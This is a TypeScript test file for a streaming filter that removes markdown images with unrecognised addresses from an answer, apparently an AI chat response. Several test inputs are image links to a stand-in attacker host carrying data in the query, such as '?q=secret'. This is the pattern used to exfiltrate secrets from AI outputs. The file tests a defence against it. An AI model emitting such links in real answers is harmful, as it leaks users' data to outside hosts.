import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { createImageFilter } from "./images.ts";

const known = (address: string) => address === "https://hotel.example/pool.png";

function pass(pieces: readonly string[]): string {
  const filter = createImageFilter(known);
  return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
}

describe("pictures in an answer", () => {
  test.each([
    ["See ![the pool](https://hotel.example/pool.png).", "See ![the pool](https://hotel.example/pool.png)."],
    ["See ![the pool](https://attacker.example/?q=secret).", "See the pool."],
    ['![x](<https://attacker.example/a b> "t") y', "x y"],
    ["![](https://hotel.example/pool.png?q=secret)!", "!"],
    ["Wow! [1] and !important", "Wow! [1] and !important"],
    ["a ![never finished](https://attacker.example/", "a ! [never finished](https://attacker.example/"],
  ])("%j becomes %j", (text, expected) => {
    expect(pass([text])).toBe(expected);
    expect(pass([...text])).toBe(expected);
  });

  test("an address that never ends is no picture, and is not waited for", () => {
    const long = `![x](https://attacker.example/${"a".repeat(9_000)})`;
    for (const said of [pass([long]), pass(long.match(/.{1,50}/gs) ?? [])])
      expect(said).not.toMatch(/!\[[^\]]*\]\(https:\/\/attacker/);
  });

  test("none of an address that nobody knows gets through, however the answer is cut", () => {
    const part = fc.constantFrom(
      "!",
      "[",
      "]",
      "(",
      ")",
      "x",
      "https://a.example/",
      " ",
      "![x](https://a.example/b)",
      "![",
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), (parts) => {
        expect(pass(parts)).not.toMatch(/!\[[^\][]*\]\(https:\/\/[^)\s]+\)/);
      }),
    );
  });
});
